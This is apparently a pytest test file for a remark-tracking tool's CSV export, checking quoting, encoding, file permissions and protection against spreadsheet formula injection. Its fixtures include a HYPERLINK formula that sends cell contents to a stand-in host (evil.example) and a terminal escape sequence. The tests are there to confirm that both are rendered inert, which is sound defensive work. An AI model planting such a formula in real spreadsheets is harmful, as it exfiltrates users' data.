"""`export --format csv`: one row per remark for a spreadsheet or a CRM, safe to open (no
cell a spreadsheet would run) and harmless to import back (issue 23)."""

from __future__ import annotations

import csv
import io
import json
import stat
import sys

import pytest

from tests import terminal
from tests.helpers import _one_line_error, all_remarks

HEADER = ["account", "id", "heard_on", "who", "via", "lens", "source", "text"]
# what a spreadsheet would run, or take for a formula, were the cell not made inert
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1 555 0100 is their direct line",
    "-20% of the budget is gone",
    "@SUM(1+1) they typed in chat",
    "\tindented by their mail client",
    "'tis the season, they said",  # begins with the inert mark itself: kept as typed
]
QUOTED = 'He said "no, not before March",\nthen: "maybe April"\n\nand left.'
ACCENTED = "Ærøskøbing façade — Ωμέγα, naïve café 🙂"


def _store(run):
    run("account", "add", "Café Noël")
    run("account", "add", "=Formula Corp")
    for day, text in enumerate([*FORMULAS, QUOTED, ACCENTED], start=1):
        on = f"2026-10-{day:02d}"
        run("remark", "add", "--on", on, "--who", "Zoë", "--", "Café Noël", text)
    run("remark", "add", "=Formula Corp", "Plain words.", "--who=-Bob", "--via", "email")
    run("remark", "add", "=Formula Corp", "=1+1", "--lens", "need")


def _rows(raw: bytes) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM: a spreadsheet reads it as UTF-8
    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline="")))


@pytest.mark.both_stores("names and texts with accents read back and matched by both stores")
def test_a_csv_export_imported_back_adds_nothing(run, tmp_path):
    _store(run)
    out = tmp_path / "remarks.csv"
    run("export", "--format", "csv", "--out", str(out))
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    before = all_remarks(run)
    result = run("remark", "import", str(out), "--json")
    report = json.loads(result.stdout)
    assert report["added"] == [] and len(report["skipped"]) == len(before) == 10
    assert all_remarks(run) == before


def test_every_remark_is_one_row_with_rfc4180_quoting(run, tmp_path):
    _store(run)
    out = tmp_path / "remarks.csv"
    run("export", "--format", "csv", "--out", str(out))
    raw = out.read_bytes()
    assert b"\r\n" in raw and raw.endswith(b"\r\n")  # RFC 4180 ends records with CRLF
    rows = _rows(raw)
    assert rows[0] == HEADER
    stored = {r["id"]: r for r in all_remarks(run)}
    assert len(rows) == 1 + len(stored)
    by_text = {}
    for account, number, heard_on, who, via, lens, source, text in rows[1:]:
        remark = stored[int(number)]
        assert heard_on == remark["heard_on"] and via == remark["via"]
        assert lens == (remark["lens"] or "") and source == ""
        by_text[text] = (account, who)
    # a quote doubled, the line breaks kept inside the quoted cell, accents as they are
    assert '"He said ""no, not before March"",\nthen: ""maybe April""\n\nand left."' in (
        raw.decode("utf-8-sig")
    )
    assert by_text[QUOTED] == ("Café Noël", "Zoë")
    assert by_text[ACCENTED] == ("Café Noël", "Zoë")


def test_no_cell_begins_as_a_formula(run, tmp_path):
    _store(run)
    rows = _rows(run("export", "--format", "csv").stdout_bytes)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    texts = {row[7] for row in rows[1:]}
    for text in FORMULAS:
        assert "'" + text in texts  # inert: a spreadsheet shows it as text, mark hidden
    assert "'=1+1" in texts
    plain = next(row for row in rows[1:] if row[7] == "Plain words.")
    assert (plain[0], plain[3]) == ("'=Formula Corp", "'-Bob")


def test_one_account_and_stdout(run, tmp_path):
    _store(run)
    raw = run("export", "--format", "csv", "--account", "cafe noel", "--out", "-").stdout_bytes
    rows = _rows(raw)
    assert {row[0] for row in rows[1:]} == {"Café Noël"} and len(rows) == 9
    assert run("export", "--format", "csv", "--account", "Nobody", code=3).stderr


def test_json_stays_the_default_and_takes_no_account(run):
    _store(run)
    assert len(json.loads(run("export").stdout)["remarks"]) == 10
    result = run("export", "--account", "Café Noël", code=2)
    assert "--format csv" in result.stderr


def test_import_all_refuses_a_csv_export_in_one_line(run, run_on, tmp_path):
    _store(run)
    out = tmp_path / "remarks.csv"
    run("export", "--format", "csv", "--out", str(out))
    result = run_on(tmp_path / "empty.db")("import-all", str(out), code=4)
    line = _one_line_error(result)
    assert "remarks.csv" in line and "CSV" in line
    assert "remark import" in result.stderr


def test_import_all_of_any_remarks_csv_points_to_remark_import(run, write, tmp_path):
    crm = write("crm.csv", "Account Name;Note;Date\nAcme;We close in six days.;2026-11-02\n")
    result = run("import-all", str(crm), code=4)
    assert "crm.csv" in _one_line_error(result)
    assert "focusblock remark import" in result.stderr


def test_the_csv_export_replaces_its_own_file_and_no_other(run, write):
    _store(run)
    out = write("weekly.csv", "")
    run("export", "--format", "csv", "--out", str(out))
    run("remark", "add", "Café Noël", "One more.")
    run("export", "--format", "csv", "--out", str(out))  # the weekly export, written again
    assert len(_rows(out.read_bytes())) == 12
    notes = write("notes.csv", "my own notes\n")
    result = run("export", "--format", "csv", "--out", str(notes), code=4)
    assert "not overwritten" in _one_line_error(result)
    assert notes.read_text() == "my own notes\n"
    backup = write("backup.json", "")
    run("export", "--out", str(backup))
    refused = run("export", "--format", "csv", "--out", str(backup), code=4)
    assert "not overwritten" in refused.stderr


def test_the_format_may_be_written_in_capitals(run):
    run("account", "add", "Kestrel")
    run("remark", "add", "Kestrel", "Two trucks wait.")
    assert run("export", "--format", "CSV").stdout.lstrip("\ufeff").startswith("account,id")


def test_an_escape_code_in_the_words_is_shown_not_run_on_a_terminal(run, db_path):
    run("account", "add", "Kestrel")
    run("remark", "add", "Kestrel", "We said \x1b[31mRED\x1b[0m twice.")
    seen = terminal.in_terminal(
        [sys.executable, "-m", "focusblock", "--db", str(db_path), "export", "--format", "csv"]
    )
    assert "\x1b[31m" not in seen and "\\x1b[31mRED" in seen
    run("export", "--format", "csv", "--out", str(db_path.parent / "r.csv"))
    kept = (db_path.parent / "r.csv").read_text(encoding="utf-8-sig")
    assert "\x1b[31mRED" in kept  # into a file: the words as they are
